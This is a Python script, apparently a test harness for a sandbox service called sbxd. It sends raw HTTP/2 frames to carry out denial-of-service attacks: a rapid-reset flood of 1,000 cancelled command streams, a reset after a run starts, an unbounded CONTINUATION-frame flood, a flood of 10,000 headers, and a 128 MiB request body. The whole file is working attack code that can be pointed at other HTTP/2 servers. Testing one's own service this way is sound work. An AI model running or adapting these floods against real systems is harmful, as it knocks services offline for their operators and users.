#!/usr/bin/env python3
"""h2abuse.py: a raw-frame HTTP/2 client (stdlib only) that abuses sbxd.

usage: h2abuse.py HOST PORT TOKEN SESSION_ID MODE [N]

MODE:
  rapid-reset   N streams (default 1000), each HEADERS + DATA(END_STREAM)
                of a run request for "sleep 100; : sbx-abuse-marker",
                immediately followed by RST_STREAM(CANCEL), all written
                back to back; then reads until the server goes quiet.
  reset-after   one run stream, RST_STREAM 0.5 s after the response
                headers (the run has started by then).
  continuation  one HEADERS without END_HEADERS, then CONTINUATION
                frames of junk (N KiB in total, default 16384) until the
                server closes; prints how many bytes it accepted.
  header-flood  one HEADERS block with N (default 10000) distinct
                literal headers of 100 bytes.
  big-body      a run request whose DATA is N KiB (default 131072).
Prints one line of JSON: what was sent and what came back.
"""
import json
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid) + payload


def hpack_int(value, prefix_bits, first=0):
    maxv = (1 << prefix_bits) - 1
    if value < maxv:
        return bytes([first | value])
    out = [first | maxv]
    value -= maxv
    while value >= 128:
        out.append((value & 127) | 128)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_str(s):
    b = s.encode() if isinstance(s, str) else s
    return hpack_int(len(b), 7) + b


def literal(name, value):
    # literal header field without indexing, new name (0x00)
    return b"\x00" + hpack_str(name) + hpack_str(value)


def req_headers(method, path, host, token, extra=()):
    block = literal(":method", method) + literal(":scheme", "http") + literal(":path", path)
    block += literal(":authority", host) + literal("authorization", "Bearer " + token)
    block += literal("content-type", "application/json")
    for k, v in extra:
        block += literal(k, v)
    return block


class Conn:
    def __init__(self, host, port):
        self.s = socket.create_connection((host, port), timeout=10)
        self.s.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30)))
        self.buf = b""
        self.frames = {}
        self.closed = False
        self.goaway = None
        self.statuses = []

    def send(self, data):
        try:
            self.s.sendall(data)
            return True
        except OSError:
            self.closed = True
            return False

    def read_for(self, seconds):
        end = time.time() + seconds
        self.s.settimeout(0.1)
        while time.time() < end and not self.closed:
            try:
                chunk = self.s.recv(65536)
            except socket.timeout:
                continue
            except OSError:
                self.closed = True
                break
            if not chunk:
                self.closed = True
                break
            self.buf += chunk
            while len(self.buf) >= 9:
                ln = int.from_bytes(self.buf[:3], "big")
                if len(self.buf) < 9 + ln:
                    break
                ft, fl, sid = self.buf[3], self.buf[4], int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
                payload = self.buf[9:9 + ln]
                self.buf = self.buf[9 + ln:]
                self.frames[ft] = self.frames.get(ft, 0) + 1
                if ft == SETTINGS and not fl & 1:
                    self.send(frame(SETTINGS, 1, 0))
                if ft == PING and not fl & 1:
                    self.send(frame(PING, 1, 0, payload))
                if ft == GOAWAY:
                    self.goaway = int.from_bytes(payload[4:8], "big")
                if ft == HEADERS and payload[:1] in (b"\x88", b"\x89", b"\x8c", b"\x8d", b"\x8e"):
                    self.statuses.append({b"\x88": 200, b"\x89": 204, b"\x8c": 206, b"\x8d": 304, b"\x8e": 400}[payload[:1]])
                elif ft == HEADERS:
                    self.statuses.append(payload[:8].hex())


def main():
    host, port, token, sid, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5]
    n = int(sys.argv[6]) if len(sys.argv) > 6 else None
    c = Conn(host, port)
    auth = "%s:%d" % (host, port)
    path = "/v1/sessions/%s/runs" % sid
    body = json.dumps({"cmd": "sleep 100; : sbx-abuse-marker"}).encode()
    result = {"mode": mode}
    t0 = time.time()
    if mode == "rapid-reset":
        n = n or 1000
        block = req_headers("POST", path, auth, token)
        out = []
        sent = 0
        for i in range(n):
            stream = 1 + 2 * i
            out.append(frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, body) +
                       frame(RST, 0, stream, struct.pack(">I", 8)))
            if len(out) >= 50:
                if not c.send(b"".join(out)):
                    break
                sent += len(out)
                out = []
        if out and c.send(b"".join(out)):
            sent += len(out)
        c.read_for(1.0)
        result.update(streams=sent)
    elif mode == "reset-after":
        block = req_headers("POST", path, auth, token)
        c.send(frame(HEADERS, END_HEADERS, 1, block) + frame(DATA, END_STREAM, 1, body))
        c.read_for(0.5)
        c.send(frame(RST, 0, 1, struct.pack(">I", 8)))
        c.read_for(0.3)
        result.update(streams=1)
    elif mode == "continuation":
        n = n or 16384
        block = req_headers("GET", "/v1/sessions", auth, token)
        c.send(frame(HEADERS, 0, 1, block))
        chunk = literal("x-junk", "a" * 16000)
        accepted = 0
        while accepted < n * 1024 and not c.closed:
            if not c.send(frame(CONTINUATION, 0, 1, chunk)):
                break
            accepted += len(chunk)
            c.read_for(0.0)
        c.read_for(0.5)
        result.update(bytes_sent=accepted)
    elif mode == "header-flood":
        n = n or 10000
        block = req_headers("GET", "/v1/sessions", auth, token)
        for i in range(n):
            block += literal("x-flood-%d" % i, "v" * 90)
        # split into 16 KiB frames
        pieces = [block[i:i + 16384] for i in range(0, len(block), 16384)]
        data = frame(HEADERS, END_STREAM | (END_HEADERS if len(pieces) == 1 else 0), 1, pieces[0])
        for j, p in enumerate(pieces[1:]):
            data += frame(CONTINUATION, END_HEADERS if j == len(pieces) - 2 else 0, 1, p)
        c.send(data)
        c.read_for(1.0)
        result.update(bytes_sent=len(block))
    elif mode == "big-body":
        n = n or 131072
        block = req_headers("POST", path, auth, token)
        c.send(frame(HEADERS, END_HEADERS, 1, block))
        piece = b"x" * 16384
        total = 0
        while total < n * 1024 and not c.closed:
            if not c.send(frame(DATA, 0, 1, piece)):
                break
            total += len(piece)
            c.read_for(0.0)
        c.send(frame(DATA, END_STREAM, 1, b""))
        c.read_for(1.0)
        result.update(bytes_sent=total)
    result.update(seconds=round(time.time() - t0, 3), closed=c.closed, goaway_error=c.goaway,
                  frames={str(k): v for k, v in c.frames.items()}, statuses=c.statuses[:20])
    print(json.dumps(result))


if __name__ == "__main__":
    main()
